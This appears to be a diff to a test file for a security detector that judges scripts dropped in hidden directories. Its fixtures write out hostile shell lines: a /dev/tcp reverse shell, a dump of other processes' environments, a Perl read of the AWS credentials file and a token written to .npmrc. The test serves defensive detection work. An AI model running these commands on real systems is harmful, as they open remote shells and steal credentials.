@@ -134,12 +134,15 @@ def test_content_tool_dot_directories_and_hiding_places():
 
 def test_content_dropped_script_says_what_it_does():
     """A script dropped in a hiding place is judged by what its text does,
-    line by line, with the shell-history patterns: a reverse shell and a read
-    of other processes' environments add their techniques to KCSI-DROP-001;
-    a fetch over /dev/tcp three lines below a bash shebang is no shell."""
+    line by line, with the shell-history patterns: a reverse shell and reads
+    of other processes' environments and of a credential file (behind Perl's
+    =>, which is no redirection) add their techniques to KCSI-DROP-001; a
+    fetch over /dev/tcp three lines below a bash shebang is no shell."""
     host = '127.%d.%d.%d' % (random.randrange(256), random.randrange(256), random.randrange(1, 255))
     evil = ('#!/bin/sh\nfor e in /proc/[0-9]*/environ; do tr "\\0" "\\n" < "$e"; done > /tmp/.e\n'
-            'exec 3<>/dev/tcp/%s/443 && sh <&3 >&3 2>&3\n' % host).encode()
+            'exec 3<>/dev/tcp/%s/443 && sh <&3 >&3 2>&3\n'
+            'perl -e \'my %%l = (aws => slurp("$ENV{HOME}/.aws/credentials"));\'\n'
+            'echo "$TOKEN" > ~/.npmrc\n' % host).encode()
     fetch = ('#!/bin/bash\nset -e\n\nexec 3<>/dev/tcp/%s/80\nprintf "GET / HTTP/1.0\\r\\n\\r\\n" >&3\ncat <&3\n'
              % host).encode()
     a, b = '/var/tmp/.%s/u' % _rand(), '/var/tmp/.%s/f' % _rand()
@@ -151,6 +154,7 @@ def test_content_dropped_script_says_what_it_does():
     for t in ('T1059.004', 'T1003.007', 'T1552.001'):
         assert t in drop[a]['mitre'], drop[a]
     assert 'shell over /dev/tcp' in drop[a]['explanation'], drop[a]['explanation']
+    assert 'credential file' in drop[a]['explanation'], 'a read behind a fat comma: ' + drop[a]['explanation']
     assert 'T1059.004' not in drop[b]['mitre'] and 'What its text does' not in drop[b]['explanation'], drop[b]
 
 
